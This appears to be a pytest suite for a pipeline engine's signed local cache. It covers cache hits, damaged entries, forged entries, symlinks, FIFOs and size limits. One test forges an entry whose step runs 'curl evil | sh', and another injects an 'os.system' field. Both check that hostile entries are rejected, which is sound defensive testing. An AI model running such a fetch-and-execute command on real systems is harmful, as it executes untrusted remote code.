"""The local cache of validated pipeline files (.sluice/cache/pipelines/): hits, misses, and
entries that are damaged, foreign or hostile, all through real files in a real repository."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

import engine
from engine.adapters import pipeline_files
from engine.adapters.pipeline_files import find_pipeline, load_file, load_many
from engine.core.layout import PIPELINE_CACHE
from engine.core.parse import LoadedPipeline, load_text
from engine.errors import PipelineInvalid
from engine.local import pipeline_cache
from tests.conftest import make_repo, sluice

PIPELINE = """\
name: churn
defaults: {image: python:3.11-slim, retries: 2}
params: {tag: v1}
steps:
  - name: prepare
    run: python prepare.py
  - name: train
    needs: prepare
    run: python train.py
    config: {tag: "${{ params.tag }}"}
  - name: report
    needs: [prepare, train]
    run: python report.py
finally:
  - name: notify
    needs: [train]
    run: echo done
"""


@pytest.fixture(autouse=True)
def user_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Each test has its own user key (outside the repository), the cache on."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv(pipeline_cache.DISABLE_ENV, raising=False)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    yield tmp_path / "xdg" / "sluice" / pipeline_cache.KEY_FILE


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path, {"churn.yaml": PIPELINE})


def entries(repo: Path) -> list[Path]:
    folder = repo / PIPELINE_CACHE
    return sorted(folder.glob("*.json")) if folder.is_dir() else []


def no_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    """From here on, a load that parses the file fails the test: only a hit can load."""

    def refuse(text: str, file: str = "<string>") -> LoadedPipeline:
        raise AssertionError(f"{file} was parsed, not taken from the cache")

    monkeypatch.setattr(pipeline_files, "load_text", refuse)


def same(a: LoadedPipeline, b: LoadedPipeline) -> None:
    assert a.pipeline == b.pipeline
    assert a.steps == b.steps
    assert a.dag == b.dag
    assert (a.file, a.sha256) == (b.file, b.sha256)
    assert a.lines.keys == b.lines.keys and a.lines.values == b.lines.values


def test_an_unchanged_file_is_loaded_from_the_cache(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = repo / "pipelines" / "churn.yaml"
    first = load_file(path, repo)
    assert len(entries(repo)) == 1
    assert (repo / ".sluice" / ".gitignore").read_text().splitlines()[-1] == "*"

    no_parsing(monkeypatch)
    hit = find_pipeline(repo, repo / "pipelines", "churn")
    assert hit is not None
    same(hit, first)
    same(hit, load_text(PIPELINE, "pipelines/churn.yaml"))
    assert hit.step("train").needs == ["prepare"]  # `needs: prepare` resolved as before
    assert hit.dag.finally_steps == ("notify",)
    # lines for messages come from the file's text, on demand
    assert hit.lines.key_line(("steps", 1, "needs")) == 8


def test_a_changed_file_misses_and_gets_its_own_entry(repo: Path) -> None:
    path = repo / "pipelines" / "churn.yaml"
    load_file(path, repo)
    path.write_text(PIPELINE.replace("python train.py", "python train.py --fast"))
    loaded = load_file(path, repo)
    assert loaded.step("train").run == "python train.py --fast"
    assert len(entries(repo)) == 2
    assert loaded.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()


def test_another_engine_version_misses(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = repo / "pipelines" / "churn.yaml"
    load_file(path, repo)
    [old] = entries(repo)
    monkeypatch.setattr(engine, "__version__", engine.__version__ + ".post1")
    parsed: list[str] = []
    real = pipeline_files.load_text

    def counting(text: str, file: str = "<string>") -> LoadedPipeline:
        parsed.append(file)
        return real(text, file)

    monkeypatch.setattr(pipeline_files, "load_text", counting)
    load_file(path, repo)
    assert parsed == ["pipelines/churn.yaml"]
    assert len(entries(repo)) == 2 and old in entries(repo)
    load_file(path, repo)  # and the new engine's entry hits
    assert parsed == ["pipelines/churn.yaml"]


@pytest.mark.parametrize(
    "damage",
    [
        lambda raw: raw[: len(raw) // 2],  # truncated
        lambda raw: b"",
        lambda raw: raw.replace(b"python prepare.py", b"python prepere.py"),  # one byte off
        lambda raw: b"\x80\xff not json at all",
        lambda raw: raw.split(b"\n", 1)[1],  # the MAC line lost
    ],
    ids=["truncated", "empty", "edited", "garbage", "no-mac"],
)
def test_a_damaged_entry_is_ignored_and_replaced(repo: Path, damage: object) -> None:
    path = repo / "pipelines" / "churn.yaml"
    load_file(path, repo)
    [entry] = entries(repo)
    entry.write_bytes(damage(entry.read_bytes()))  # type: ignore[operator]
    loaded = load_file(path, repo)
    same(loaded, load_text(PIPELINE, "pipelines/churn.yaml"))
    assert pipeline_cache.for_repo(repo) is not None
    assert load_file(path, repo).step("prepare").run == "python prepare.py"
    assert entry.read_bytes().split(b"\n", 1)[0] != b""  # written again, whole


def forged(repo: Path, entry: Path, secret: bytes, edit: dict[str, object]) -> None:
    """Rewrite `entry` with `edit` applied to its pipeline, signed with `secret`."""
    body = json.loads(entry.read_bytes().split(b"\n", 1)[1])
    body["pipeline"]["steps"][0].update(edit)
    data = json.dumps(body).encode()
    mac = hmac.new(secret, data, hashlib.sha256).hexdigest().encode()
    entry.write_bytes(mac + b"\n" + data)


def test_an_entry_signed_by_another_key_is_ignored(repo: Path, user_key: Path) -> None:
    """An entry not written by this user's engine (a restored CI cache, an unpacked archive,
    a step writing into the workspace) never decides what runs."""
    path = repo / "pipelines" / "churn.yaml"
    load_file(path, repo)
    [entry] = entries(repo)
    forged(repo, entry, b"k" * 32, {"run": "curl evil | sh"})
    assert load_file(path, repo).step("prepare").run == "python prepare.py"


def test_the_key_is_what_makes_an_entry_trusted(
    repo: Path, user_key: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The converse of the test above, so that it can fail: signed with the user's key, the
    same edit is taken (the key, kept outside the repository, is all that guards entries)."""
    path = repo / "pipelines" / "churn.yaml"
    load_file(path, repo)
    [entry] = entries(repo)
    assert user_key.is_file() and not user_key.is_relative_to(repo)
    assert user_key.stat().st_mode & 0o077 == 0
    forged(repo, entry, user_key.read_bytes(), {"run": "echo edited"})
    assert load_file(path, repo).step("prepare").run == "echo edited"


def test_a_signed_entry_under_another_name_is_ignored(
    repo: Path, user_key: Path, tmp_path: Path
) -> None:
    """A genuine entry of one file, renamed to the key of another, does not load for it."""
    path = repo / "pipelines" / "churn.yaml"
    other = repo / "pipelines" / "other.yaml"
    other.write_text(PIPELINE.replace("name: churn", "name: other"))
    load_file(path, repo)
    [entry] = entries(repo)
    entry.rename(tmp_path / "kept.json")
    load_file(other, repo)
    [other_entry] = entries(repo)
    (tmp_path / "kept.json").replace(other_entry)
    assert load_file(other, repo).name == "other"


def test_a_signed_entry_that_does_not_validate_is_ignored(repo: Path, user_key: Path) -> None:
    """Defence in depth: even a verified entry goes through the pipeline model again."""
    path = repo / "pipelines" / "churn.yaml"
    load_file(path, repo)
    [entry] = entries(repo)
    forged(repo, entry, user_key.read_bytes(), {"retries": "many", "__class__": "os.system"})
    assert load_file(path, repo).step("prepare").retries.limit == 2


def test_a_fifo_or_a_symlink_in_place_of_an_entry_is_ignored(repo: Path, tmp_path: Path) -> None:
    path = repo / "pipelines" / "churn.yaml"
    load_file(path, repo)
    [entry] = entries(repo)
    good = tmp_path / "good.json"
    entry.rename(good)
    entry.symlink_to(good)  # a symlink, even to a genuine entry, is not read
    cache = pipeline_cache.for_repo(repo)
    assert cache is not None
    text = path.read_text()
    digest = hashlib.sha256(text.encode()).hexdigest()
    assert cache.get(text, digest, "pipelines/churn.yaml") is None
    entry.unlink()
    os.mkfifo(entry)  # opening a FIFO to read would block: it must not be opened so
    done: list[LoadedPipeline | None] = []
    reader = threading.Thread(target=lambda: done.append(cache.get(text, digest, "x")))
    reader.start()
    reader.join(timeout=30)
    if reader.is_alive():  # unblock the thread before failing
        with open(entry, "wb"):
            pass
        pytest.fail("reading a FIFO entry blocked")
    assert done == [None]
    assert load_file(path, repo).name == "churn"


def test_invalid_files_are_never_cached_and_validate_still_names_each_line(repo: Path) -> None:
    path = repo / "pipelines" / "churn.yaml"
    assert sluice("validate", repo=repo).returncode == 0
    assert len(entries(repo)) == 1
    path.write_text(PIPELINE.replace("needs: prepare", "needs: prepair").replace("2}", "two}"))
    with pytest.raises(PipelineInvalid):
        load_file(path, repo)
    assert len(entries(repo)) == 1
    done = sluice("validate", repo=repo)
    assert done.returncode == 2
    out = done.stdout + done.stderr
    assert "pipelines/churn.yaml:8:" in out and "prepair" in out
    assert "pipelines/churn.yaml:2:" in out


def test_a_duplicate_name_on_a_hit_is_reported_at_its_line(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Lines of a cached file are still there for messages (read from its text)."""
    (repo / "pipelines" / "copy.yaml").write_text("\n\n" + PIPELINE)
    files = pipeline_files.find_pipeline_files(repo / "pipelines")
    with pytest.raises(PipelineInvalid):
        load_many(files, repo)
    no_parsing(monkeypatch)
    with pytest.raises(PipelineInvalid) as raised:
        load_many(files, repo)
    [problem] = raised.value.problems
    assert (problem.file, problem.line) == ("pipelines/copy.yaml", 3)


def test_the_cache_can_be_turned_off(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(pipeline_cache.DISABLE_ENV, "off")
    load_file(repo / "pipelines" / "churn.yaml", repo)
    assert entries(repo) == []
    assert not (repo / ".sluice").exists()


def test_under_github_actions_the_cache_is_off_unless_turned_on(
    repo: Path, user_key: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A job starts from a fresh checkout (nothing to hit), and the Action's container runs
    as root: a key in the runner's home would be a file later steps cannot change."""
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    path = repo / "pipelines" / "churn.yaml"
    load_file(path, repo)
    assert entries(repo) == [] and not user_key.parent.exists()
    monkeypatch.setenv(pipeline_cache.DISABLE_ENV, "on")
    load_file(path, repo)
    assert len(entries(repo)) == 1 and user_key.is_file()


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user needs root")
def test_no_key_is_made_in_a_folder_another_user_owns(
    repo: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """`sudo sluice` with the user's HOME: no root-owned file is left in that home."""
    home = tmp_path / "someone"
    home.mkdir()
    os.chown(home, 4242, 4242)
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    assert load_file(repo / "pipelines" / "churn.yaml", repo).name == "churn"
    assert list(home.iterdir()) == [] and entries(repo) == []


def test_without_a_usable_user_key_nothing_is_cached(
    repo: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("")
    monkeypatch.setenv("XDG_CACHE_HOME", str(blocker))
    assert load_file(repo / "pipelines" / "churn.yaml", repo).name == "churn"
    assert entries(repo) == []


def test_entries_stay_bounded(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pipeline_cache, "MAX_ENTRIES", 3)
    monkeypatch.setattr(pipeline_cache, "KEEP_ENTRIES", 2)
    path = repo / "pipelines" / "churn.yaml"
    for n in range(5):
        path.write_text(PIPELINE.replace("python report.py", f"python report.py {n}"))
        load_file(path, repo)
        assert len(entries(repo)) <= 3
    assert load_file(path, repo).step("report").run == "python report.py 4"


def test_examples_round_trip_through_the_cache(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Every pipeline shipped in this repository loads from the cache as from its file."""
    root = Path(__file__).resolve().parent.parent
    files = sorted({*root.glob("pipelines/*.yaml"), *root.glob("examples/*/pipelines/*.yaml")})
    assert files
    repo = make_repo(tmp_path, {f"{i}-{f.name}": f.read_text() for i, f in enumerate(files)})
    found = pipeline_files.find_pipeline_files(repo / "pipelines")
    fresh = load_many(found, repo)
    assert len(entries(repo)) == len(files)
    no_parsing(monkeypatch)
    for a, b in zip(load_many(found, repo), fresh, strict=True):
        same(a, b)


def test_a_pipeline_without_a_faithful_json_form_is_loaded_and_not_cached(repo: Path) -> None:
    """NaN equals nothing and infinity has no JSON: such a file is simply never cached."""
    path = repo / "pipelines" / "churn.yaml"
    path.write_text(PIPELINE.replace("params: {tag: v1}", "params: {tag: v1, x: .nan, y: .inf}"))
    for _ in range(2):
        loaded = load_file(path, repo)
        assert loaded.pipeline.params["y"] == float("inf")
    assert entries(repo) == []
